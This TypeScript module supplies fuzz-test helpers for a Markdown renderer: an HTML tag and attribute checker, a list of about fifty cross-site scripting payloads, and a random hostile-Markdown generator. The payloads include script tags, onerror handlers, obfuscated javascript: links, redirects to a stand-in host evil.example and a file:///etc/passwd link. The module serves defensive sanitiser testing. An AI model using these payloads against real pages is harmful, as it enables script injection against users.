import fc from 'fast-check';

/** A tag as a browser would read it: its name and its attributes with their entities resolved. */
export interface PageTag {
  name: string;
  attributes: Map<string, string>;
}

const TAG = /<\/?([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/gi;
const ATTRIBUTE = /([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/** Every tag in some HTML. */
export function tagsIn(html: string): PageTag[] {
  return [...html.matchAll(TAG)].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    attributes: new Map(
      [...rest.matchAll(ATTRIBUTE)].map(([, key = '', double, single, bare]) => [
        key.toLowerCase(),
        resolved(double ?? single ?? bare ?? ''),
      ]),
    ),
  }));
}

function resolved(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, digits: string) => String.fromCodePoint(Number.parseInt(digits, 16)))
    .replace(/&#(\d+);?/g, (_, digits: string) => String.fromCodePoint(Number(digits)))
    .replace(/&quot;?/gi, '"')
    .replace(/&lt;?/gi, '<')
    .replace(/&amp;?/gi, '&');
}

const HARMLESS =
  /^(a|blockquote|br|button|code|del|em|h[1-6]|hr|img|input|kbd|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/;
const QUIET = /^(href|src|alt|title|start|align|type|checked|disabled|class|id|aria-[a-z]+|data-[a-z-]+)$/;

/** What in some HTML could act by itself or lead to a script; nothing when it is safe to put on a page. */
export function dangersIn(html: string, address = /^(https?|mailto|xmpp|ircs?):/): string[] {
  return tagsIn(html).flatMap(({ name, attributes }) => [
    ...(HARMLESS.test(name) ? [] : [`<${name}>`]),
    ...(name === 'input' && attributes.get('type') !== 'checkbox' ? ['an input that is no check box'] : []),
    ...[...attributes].flatMap(([key, value]) => {
      if (!QUIET.test(key)) return [`${name} ${key}`];
      if (key !== 'href' && key !== 'src') return [];
      // Browsers skip control characters and spaces in a scheme.
      const plain = value.replace(/[\p{Cc}\s]/gu, '').toLowerCase();
      const scheme = /^[a-z][a-z0-9+.-]*:/.test(plain);
      return scheme && !address.test(plain) ? [`${name} ${key}=${value}`] : [];
    }),
  ]);
}

/** Attacks on renderers of Markdown that have worked somewhere. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](javascript://%0aalert(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](x" onerror="alert(1))',
  '![" onerror="alert(1)](x)',
  '[x](x "\\" onmouseover=\\"alert(1)")',
  '[x](x \'" onmouseover=alert(1) "\')',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x][y]\n\n[y]: javascript:alert(1) "x"',
  '[^x]\n\n[^x]: <script>alert(1)</script> [x](javascript:alert(1))',
  '```"><script>alert(1)</script>\nx\n```',
  '```x onload=alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '| <script> |\n| :-: |\n| [x](javascript:alert(1)) |',
  '## <script>alert(1)</script> {onclick=alert(1)}',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '- [x] <input onfocus=alert(1) autofocus>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'www.evil.example/"onmouseover="alert(1)',
  'https://evil.example/<script>alert(1)</script>',
] as const;

const PIECES = [
  ...ATTACKS,
  ...[
    '<',
    '>',
    '"',
    "'",
    '`',
    '```',
    '[',
    ']',
    '(',
    ')',
    '!',
    '\\',
    '&',
    '&#',
    '|',
    '\n',
    '\n\n',
    '  ',
    '\t',
  ],
  ...['javascript:', 'data:', 'on', 'error=', '</', '<!--', '-->', '~~', '**', '> ', '- ', '- [ ] ', '## '],
  ...['[x](', '<a href="', '[^1]', '\n[^1]: ', '\n[x]: ', '\u0000', '\u200b', '\ud800', '词'],
];

/** Markdown that nobody would write in good faith. */
export function hostileMarkdown(): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  );
  return fc.array(piece, { minLength: 1, maxLength: 40 }).map((pieces) => pieces.join(''));
}
